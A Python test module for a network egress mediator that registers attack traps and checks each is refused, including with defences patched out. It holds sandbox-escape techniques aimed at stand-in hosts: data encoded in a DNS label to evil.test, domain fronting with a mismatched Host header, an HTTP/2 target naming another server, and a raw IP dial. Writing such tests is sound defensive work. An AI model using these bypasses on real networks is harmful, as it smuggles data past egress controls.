"""Traps 2, 16, 18, 19: reach a host that the policy does not name, by its address or another's name."""

from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager, ExitStack, contextmanager
from typing import Final
from unittest.mock import patch

import h2.config
import h2.connection
import h2.events

from hark.errors import UpstreamError
from hark.policy.decide import Allow
from mediator import dns, forwarding, gate, judgement
from tests.attacks.registry import Outcome, Verdict, add
from tests.mediator.rig import API, OTHER, running, served

type Attempted = Callable[[], Outcome]

ANYTHING: Final = Allow("the defence is taken away")


def _outcome(reached: bool, detail: str) -> Outcome:
    return Outcome(Verdict.SUCCEEDED if reached else Verdict.REFUSED, detail)


def _dns_label() -> Outcome:
    with running(API) as rig:
        reply = rig.ask("c2VjcmV0.evil.test")
        return _outcome(reply.header.rcode == 0, f"rcode {reply.header.rcode}")


def _fronting(*paths: str) -> Outcome:
    with served(OTHER) as (rig, upstream), rig.https() as client:
        status = 0
        for path in paths:
            client.request("GET", path, headers={"Host": API if path == "/fine" else "evil.test"})
            answer = client.getresponse()
            answer.read()
            status = answer.status
        reached = any(seen.path == "/fronted" for seen in upstream.seen)
        return _outcome(reached, f"status {status}")


def _target_of_another() -> Outcome:
    with served(OTHER) as (rig, upstream), rig.tls(API, 443, None, "h2") as sock:
        config = h2.config.H2Configuration(validate_outbound_headers=False)
        client = h2.connection.H2Connection(config)
        client.initiate_connection()
        target = (":path", "https://evil.example/fronted")
        ask = [(":method", "GET"), (":scheme", "https"), (":authority", API), target]
        client.send_headers(1, ask, end_stream=True)
        sock.sendall(client.data_to_send())
        done = False
        while not done and (data := sock.recv(65536)):
            done = any(isinstance(event, h2.events.StreamEnded) for event in client.receive_data(data))
        reached = any(seen.path.endswith("/fronted") for seen in upstream.seen)
        return _outcome(reached, f"the server saw {len(upstream.seen)} requests")


def _literal_address() -> Outcome:
    with running(API) as rig, rig.dial("198.51.100.7", 80) as sock:
        sock.sendall(b"GET / HTTP/1.1\r\nHost: 198.51.100.7\r\n\r\n")
        first = sock.recv(200).partition(b"\r\n")[0]
        # Undefended, the mediator dials: a test net, so 502 and not 403 is what reaching it looks like.
        return _outcome(b" 403 " not in first, first.decode())


async def _dialled(*_: object, **__: object) -> None:
    raise UpstreamError("dialled")


def _any_name() -> AbstractContextManager[object]:
    return patch.object(dns, "decide_name", lambda *_: ANYTHING)


@contextmanager
def _any_request() -> Iterator[None]:
    decided = {"judge_request": lambda *_: ANYTHING, "decide_request": lambda *_, **__: ANYTHING}
    with patch.multiple(judgement, **decided), patch.object(forwarding, "_host", lambda value, _: value):
        yield


def _any_target() -> AbstractContextManager[object]:
    return patch.object(judgement, "_in_origin_form", lambda _: True)


def _any_address() -> AbstractContextManager[object]:
    return patch.multiple(gate, judge_dial=lambda *_: ANYTHING)


def _no_network() -> AbstractContextManager[object]:
    return patch("mediator.dial.Dialler.dial", _dialled)


def _without(
    run: Callable[[], Outcome], *defences: Callable[[], AbstractContextManager[object]]
) -> Attempted:
    def bare() -> Outcome:
        with ExitStack() as stack:
            for defence in defences:
                stack.enter_context(defence())
            return run()

    return bare


def _first() -> Outcome:
    return _fronting("/fronted")


def _later() -> Outcome:
    return _fronting("/fine", "/fronted")


LITERAL: Final = (_any_address, _any_request, _no_network)

add(16, "carry data out in a DNS label", _dns_label, _without(_dns_label, _any_name))
add(18, "an allowed SNI with another Host", _first, _without(_first, _any_request))
add(18, "another server's URL as the target", _target_of_another, _without(_target_of_another, _any_target))
add(19, "another Host later on a kept connection", _later, _without(_later, _any_request))
add(2, "a literal address over HTTP", _literal_address, _without(_literal_address, *LITERAL))
